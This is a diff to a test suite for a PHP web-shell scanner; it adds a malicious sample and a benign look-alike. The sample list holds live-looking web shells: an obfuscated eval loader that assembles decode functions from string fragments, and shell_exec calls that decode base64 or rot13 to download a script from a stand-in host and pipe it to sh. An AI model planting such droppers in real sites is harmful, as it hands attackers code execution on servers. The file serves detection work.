@@ -34,6 +34,7 @@ const MALICIOUS: [string, string, string][] = [
     `<?php\n$run = function ($c) {\n    EVAL($c);\n};\n$one = function ($x) {\n    $s = "_AeBDsCdE";\n    $n = $s[(0 * 6) + 3] . $s[(73 - 69) / 4];\n    $n .= $s[(0 * 14) + 5] . "e" . ((1 * 4) + 2) . (13 - 9) . $s[19 - 19] . $s[(1 * 4) + 3];\n    $n .= $s[6 + -4] . $s[26 - 20] . "O" . $s[20 + -16] . $s[19 + -11] . "";\n    return $n($x);\n};\nfunction two($x) {\n    $w = "nzftA";\n    $g = "G";\n    $g .= $w[(91 - 85) / 6];\n    $g .= "I" . $w[0] . $w[10 - 8];\n    $g .= "l" . $w[18 - 14] . $w[22 - 19];\n    $g .= "e";\n    return $g($x);\n}\n$p = '${blob(24000, 1)}';\n$p = $one($p);\n$p = two($p);\n$run($p);\n`,
   ],
   ['a command given a base64-decoded literal', '/var/www/html/d.php', `<?php shell_exec(base64_decode("${b64('(wget -qO- http://dl.example.invalid/sh || curl -s http://dl.example.invalid/sh) | sh -s x')}")); echo 'ok'; ?>\n`],
+  ['a download piped to sh, decoded from base64 into a variable a command function is given (red team S37A-56)', '/var/www/html/d2.php', `<?php\n$c = base64_decode("${b64('curl -s http://dl.example.invalid/x.sh | sh')}");\n@shell_exec($c . ' > /dev/null 2>&1 &');\necho "OK";\n`],
   ['a command given a rot13-decoded literal', '/var/www/html/e.php', `<?php system(str_rot13('jtrg -d uggc://qy.rknzcyr.vainyvq/o -B /gzc/o'));\n`],
   [
     'a page killing rival miners, downloading a program from a bare address, making it executable and running it from its folder',
@@ -99,6 +100,11 @@ const LOOKALIKES: [string, string, string][] = [
     `<?php\n$logo = '${blob(3000, 2)}';\nfunction render_compiled($code) { eval($code); }\n$compiled = '?>' . file_get_contents(__DIR__ . '/cache/page.php');\nrender_compiled($compiled);\necho '<img src="data:image/png;base64,' . $logo . '">';\n`,
   ],
   [
+    'a status page decoding a base64 setting and running a fixed command kept in a variable',
+    '/var/www/html/status3.php',
+    `<?php\n$title = base64_decode("${b64('Server status')}");\n$cmd = 'uptime';\necho '<h1>' . htmlspecialchars($title) . '</h1><pre>' . htmlspecialchars((string) shell_exec($cmd)) . '</pre>';\n`,
+  ],
+  [
     'a maintenance page running a fixed command with a literal base64 label printed apart',
     '/var/www/html/maint.php',
     `<?php\necho base64_decode('${b64('Disk usage')}');\necho shell_exec('df -h');\n`,
@@ -147,7 +153,7 @@ describe('scan: the techniques of held-out set H18 (session 37)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 11));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 12));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -155,7 +161,7 @@ describe('scan: the techniques of held-out set H18 (session 37)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 14));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 15));
 
   // (red team S37A-1, -2: the first eval-wrapper pattern had two runs of spaces side by side, and a function of one
   // parameter before a megabyte of spaces was read for minutes; each such file is scanned in process, without the bound)
